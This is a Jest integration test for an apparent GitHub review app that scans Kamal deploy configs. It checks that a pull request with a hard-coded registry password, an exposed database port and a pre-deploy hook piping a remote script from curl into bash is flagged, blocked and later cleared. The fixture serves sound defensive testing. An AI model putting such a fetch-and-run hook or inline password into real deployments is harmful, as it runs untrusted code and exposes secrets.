/** The main job over real HTTP: a pull request is opened, judged, mended and merged. */
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { deployWith, SOUND_SETUP } from "../../demo/sound-setup.ts";
import type { Repository } from "../../emulator/repository.ts";
import { type AppWorld, startAppWorld } from "../support/app-world.ts";

let world: AppWorld;
let repository: Repository;

beforeAll(async () => {
  world = await startAppWorld();
  repository = await world.github.createRepository({
    name: "shop",
    private: true,
    files: SOUND_SETUP,
    collaborators: { wim: "push", otto: "pull" },
  });
  await repository.protect("main", { checks: [{ context: "Kamal Review", appId: world.github.app.id }] });
});

afterAll(async () => {
  expect(world.violations()).toEqual([]);
  await world.stop();
});

describe("a pull request that leaks a password and runs a download", () => {
  let number: number;
  let bad: string;

  beforeAll(async () => {
    bad = await repository.commit({
      branch: "faster",
      from: "main",
      message: "Deploy faster",
      files: {
        "config/deploy.yml": deployWith(
          ["password:\n    - KAMAL_REGISTRY_PASSWORD", "password: hunter2hunter2"],
          ['"127.0.0.1:5432:5432"', "5432"],
        ),
        ".kamal/hooks/pre-deploy": {
          content: "#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/tool | bash\n",
          mode: "100755",
        },
      },
    });
    number = await repository.openPullRequest({ head: "faster", title: "Deploy faster" });
    await world.settled();
  });

  test("fails the check and says how bad it is", async () => {
    const runs = await repository.checkRuns(bad);
    expect(runs.map(({ name, status, conclusion }) => ({ name, status, conclusion }))).toEqual([
      { name: "Kamal Review", status: "completed", conclusion: "failure" },
    ]);
    expect(runs[0]?.output.title).toBe("2 critical, 1 high");
  });

  test("comments once on each changed line, with a suggestion where the fix is certain", async () => {
    const comments = await repository.reviewComments(number);
    expect(comments.map(({ path, line }) => `${path}:${line}`).sort()).toEqual([
      ".kamal/hooks/pre-deploy:3",
      "config/deploy.yml:15",
      "config/deploy.yml:34",
    ]);
    const password = comments.find(({ line }) => line === 15);
    expect(password?.body).toContain("```suggestion\n  password: [KAMAL_REGISTRY_PASSWORD]\n```");
    expect(await repository.reviews(number)).toHaveLength(1);
  });

  test("refuses the merge", async () => {
    expect((await repository.merge(number)).status).toBe(405);
  });

  test("shows the password nowhere: not on GitHub, not in a request, not in the log", async () => {
    const sent = world.github.requests().filter(({ login }) => login === "kamal-review[bot]");
    const bodies = (await repository.reviewComments(number)).map(({ body }) => body);
    const sinks = {
      checks: await repository.checkRuns(bad),
      bodies,
      reviews: await repository.reviews(number),
      sent,
      log: world.log,
    };
    const leaking = Object.entries(sinks).filter(([, sink]) => JSON.stringify(sink).includes("hunter2"));
    expect(leaking.map(([name]) => name)).toEqual([]);
  });

  test("turns green after the mending push, marks the comments as fixed and lets the merge through", async () => {
    const good = await repository.commit({
      branch: "faster",
      message: "Mend",
      files: { ...SOUND_SETUP, "README.md": "# Shop, faster\n" },
    });
    await world.settled();
    const [run] = await repository.checkRuns(good);
    expect(run?.conclusion).toBe("success");
    const comments = await repository.reviewComments(number);
    const fixed = `✅ Fixed in \`${good.slice(0, 7)}\`.`;
    const heads = comments.map(({ body }) =>
      body.split("\n")[0]?.replace(/ \*\*The value stays in the history.*/, " Leaked."),
    );
    expect(heads).toEqual([fixed, `${fixed} Leaked.`, fixed]);
    expect((await repository.merge(number)).status).toBe(200);
  });
});
